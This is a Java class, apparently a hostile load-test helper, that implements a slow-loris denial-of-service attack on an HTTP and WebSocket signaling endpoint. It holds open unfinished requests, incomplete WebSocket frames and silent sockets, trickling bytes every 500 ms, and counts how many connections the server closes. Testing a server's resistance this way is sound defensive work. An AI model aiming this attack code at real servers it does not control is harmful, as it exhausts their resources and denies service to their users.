package org.rotunda.load.hostile;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.concurrent.Executors;
import java.util.concurrent.ScheduledExecutorService;
import java.util.concurrent.TimeUnit;

/**
 * A slow-loris attack. Its connections occupy a server although they send almost nothing. There are three kinds of
 * connections. The first kind never finishes its HTTP request. The second kind opens a WebSocket and never finishes a
 * frame. Connections of these two kinds send one byte every 500 ms. The third kind opens a WebSocket and then sends
 * nothing. The attack runs on its own thread, and its methods may be called from any thread.
 */
public final class SlowLoris implements AutoCloseable {
    private static final long BYTE_MILLIS = 500;
    private static final int READ_MILLIS = 10_000;

    /** The beginning of a masked text frame of 64 KiB. The attack never completes the frame. */
    private static final byte[] FRAME_BEGIN = {(byte) 0x81, (byte) 0xFE, (byte) 0xFF, (byte) 0xFF, 0, 0, 0, 0, '{'};

    // The lock of this object guards the three lists of sockets.
    private final List<Socket> requests = new ArrayList<>();
    private final List<Socket> frames = new ArrayList<>();
    private final List<Socket> silent = new ArrayList<>();
    private final InetSocketAddress address;
    private final ScheduledExecutorService thread = Executors.newSingleThreadScheduledExecutor(task -> {
        Thread created = new Thread(task, "slow-loris");
        created.setDaemon(true);
        return created;
    });
    private int said;

    private SlowLoris(InetSocketAddress address) {
        this.address = address;
    }

    /**
     * Starts an attack, which runs until {@link #close}.
     *
     * @param ofEachKind the number of connections of each of the three kinds
     */
    @SuppressWarnings("FutureReturnValueIgnored") // The task ends with the executor.
    public static SlowLoris start(InetSocketAddress http, int ofEachKind) throws IOException {
        SlowLoris loris = new SlowLoris(http);
        loris.open(ofEachKind);
        loris.thread.scheduleAtFixedRate(loris::sayOneByte, BYTE_MILLIS, BYTE_MILLIS, TimeUnit.MILLISECONDS);
        return loris;
    }

    private synchronized void open(int ofEachKind) throws IOException {
        for (int i = 0; i < ofEachKind; i++) {
            Socket request = connect();
            request.getOutputStream().write(ascii("GET /signaling HTTP/1.1\r\nHost: x\r\nX-Slow: "));
            requests.add(request);
            Socket frame = upgraded();
            frame.getOutputStream().write(FRAME_BEGIN);
            frames.add(frame);
            silent.add(upgraded());
        }
    }

    private Socket connect() throws IOException {
        Socket socket = new Socket(address.getAddress(), address.getPort());
        socket.setTcpNoDelay(true);
        socket.setSoTimeout(READ_MILLIS);
        return socket;
    }

    private Socket upgraded() throws IOException {
        Socket socket = connect();
        String key = Base64.getEncoder().encodeToString(new byte[16]);
        socket.getOutputStream()
                .write(ascii("GET /signaling HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                        + "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: " + key + "\r\n\r\n"));
        byte[] answer = new byte[12];
        int read = socket.getInputStream().readNBytes(answer, 0, answer.length);
        String status = new String(answer, 0, read, StandardCharsets.US_ASCII);
        if (!status.equals("HTTP/1.1 101")) {
            throw new IOException("no WebSocket but " + status);
        }
        return socket;
    }

    private static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.US_ASCII);
    }

    private synchronized void sayOneByte() {
        said++;
        say(requests);
        say(frames);
    }

    private static void say(List<Socket> sockets) {
        for (Socket socket : sockets) {
            try {
                if (!socket.isClosed()) {
                    socket.getOutputStream().write('x');
                }
            } catch (IOException closedByServer) {
                close(socket);
            }
        }
    }

    /** Returns the number of WebSockets that the server has closed so far. */
    public synchronized int endedWebSockets() {
        int ended = 0;
        for (List<Socket> sockets : List.of(frames, silent)) {
            for (Socket socket : sockets) {
                ended += isEnded(socket) ? 1 : 0;
            }
        }
        return ended;
    }

    /** Returns how many times one byte has been sent on each open connection of the first two kinds. */
    public synchronized int said() {
        return said;
    }

    private static boolean isEnded(Socket socket) {
        if (socket.isClosed()) {
            return true;
        }
        try {
            socket.setSoTimeout(1);
            byte[] ignored = new byte[4_096]; // The server sends heartbeats and then a close frame.
            int read = socket.getInputStream().read(ignored);
            while (read > 0) {
                read = socket.getInputStream().read(ignored);
            }
            return true;
        } catch (SocketTimeoutException open) {
            return false;
        } catch (IOException reset) {
            return true;
        }
    }

    private static void close(Socket socket) {
        try {
            socket.close();
        } catch (IOException failure) {
            throw new UncheckedIOException(failure);
        }
    }

    @Override
    public void close() {
        thread.shutdownNow();
        synchronized (this) {
            List.of(requests, frames, silent).forEach(sockets -> sockets.forEach(SlowLoris::close));
        }
    }
}
